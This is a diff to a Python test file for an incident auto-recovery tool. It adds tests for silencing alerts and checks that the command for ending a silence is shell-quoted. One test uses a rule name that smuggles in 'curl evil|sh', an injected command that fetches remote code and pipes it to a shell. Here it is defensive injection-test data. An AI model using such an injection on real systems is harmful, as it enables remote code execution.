@@ -1,5 +1,7 @@
 """A rule that asks: a person's first word decides, and without one nothing is run."""
 
+import shlex
+from dataclasses import replace
 from datetime import timedelta
 from typing import Any
 
@@ -7,12 +9,22 @@ import pytest
 
 from autorecovery import people
 from autorecovery.dry_run import Nobody
-from autorecovery.models.controls import Halt
+from autorecovery.models.controls import Halt, WindowKind
 from autorecovery.models.incident import EntryKind, Incident
 from autorecovery.models.notice import NoticeKind
 from autorecovery.models.reason import Autonomy, Reason
+from autorecovery.models.signal import Target, TargetKind
 from autorecovery.people import People
-from tests.response_world import RELIEVE, RESTART, START, World, incident, measured_by_alarm, rule
+from tests.response_world import (
+    RELIEVE,
+    RESTART,
+    START,
+    World,
+    incident,
+    measured_by_alarm,
+    rule,
+    signal,
+)
 
 MINUTE = timedelta(minutes=1)
 HOUR = timedelta(hours=1)
@@ -34,6 +46,7 @@ def say(world: World, word: str, by: str = "ann") -> people.Answer:
         "deny": lambda: people.decide(incident, by, app, approved=False),
         "ack": lambda: people.acknowledge(incident, by, app),
         "close": lambda: people.close(incident, by, app),
+        "silence": lambda: people.silence(incident, by, app, lasting=HOUR),
     }[word]()
     world.wake()
     return answer
@@ -126,12 +139,32 @@ def test_a_word_on_a_closed_incident_changes_nothing() -> None:
     world = asking()
     assert world.respond(lasting=MINUTE) is None
     assert say(world, "close").changed
-    for word in ("approve", "deny", "ack", "close"):
+    for word in ("approve", "deny", "ack", "close", "silence"):
         assert not say(world, word).changed
     ending = world.respond()
     assert ending is not None
     assert ending.reason is Reason.CLOSED_BY_PERSON
     assert world.runner.tries == []
+    assert world.controls.windows(WindowKind.SILENCE) == []
+
+
+def test_each_container_of_one_machine_has_a_silence_of_its_own() -> None:
+    world = asking()
+    app = People(world.incidents, world.controls, Nobody(), world.clock)
+    for number in (1, 2):
+        name = f"i-0123456789abcdef0/payments-api-{number}"
+        seen = signal(id=f"e{number}", target=Target(TargetKind.CONTAINER, name))
+        assert people.silence(incident(rule(RESTART), seen), "ann", app, HOUR).changed
+    assert len({each.window.targets for each in world.controls.windows(WindowKind.SILENCE)}) == 2
+
+
+def test_the_command_that_ends_a_silence_is_quoted_for_a_shell() -> None:
+    world = asking()
+    app = People(world.incidents, world.controls, Nobody(), world.clock)
+    hostile = replace(world.present, rule_name="unruled:x'; curl evil|sh; '")
+    typed = people.silence(hostile, "ann", app, HOUR).text.partition("to be told again: ")[2]
+    [silenced] = world.controls.windows(WindowKind.SILENCE)
+    assert shlex.split(typed) == ["autorecovery", "silence", "end", silenced.window.name]
 
 
 def test_whoever_acknowledged_needs_no_reminding() -> None:
